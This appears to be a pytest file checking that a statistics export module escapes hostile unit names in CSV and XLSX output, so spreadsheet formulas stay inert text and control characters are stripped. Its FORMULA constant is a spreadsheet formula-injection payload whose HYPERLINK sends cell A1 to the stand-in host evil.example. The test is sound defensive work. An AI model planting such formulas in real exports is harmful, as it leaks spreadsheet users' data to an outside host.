"""The 通报 exports with hostile unit names: no live formula, no failure on a control character."""

import csv
import io

from openpyxl import load_workbook

from api.export import stats_csv, stats_xlsx

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点击")'


def _row(rank, unit, points):
    return {"rank": rank, "unit": unit, "submitted": 3, "adopted": 1, "adopted_county": 1, "adopted_city": 0,
            "adopted_province": 0, "adopted_central": 0, "adoption_rate": 0.3333, "points": points,
            "problem_trend_share": 0.5, "months_without_adoption": ["2026-11"],
            "with_errors": 1, "error_rate": 0.5}


ROWS = [_row(1, FORMULA, 9.5), _row(2, "城关镇\x07人民政府", -1.0), _row(3, "@SUM(1)", 0.5)]


def test_csv_cells_that_start_a_formula_are_text():
    rows = list(csv.reader(io.StringIO(stats_csv(ROWS).decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'" + FORMULA, "城关镇人民政府", "'@SUM(1)"]
    assert rows[2][9] == "-1.00"  # a negative number stays a number, with the points precision


def test_xlsx_holds_no_formula_and_survives_a_control_character():
    book = load_workbook(io.BytesIO(stats_xlsx(ROWS, title="2026-11-01至2026-11-30")))
    sheet = book.active
    units = [sheet.cell(row=r, column=2) for r in (3, 4, 5)]
    assert [c.value for c in units] == ["'" + FORMULA, "城关镇人民政府", "'@SUM(1)"]
    assert all(c.data_type == "s" for c in units)
    assert sheet.cell(row=4, column=10).value == -1.0
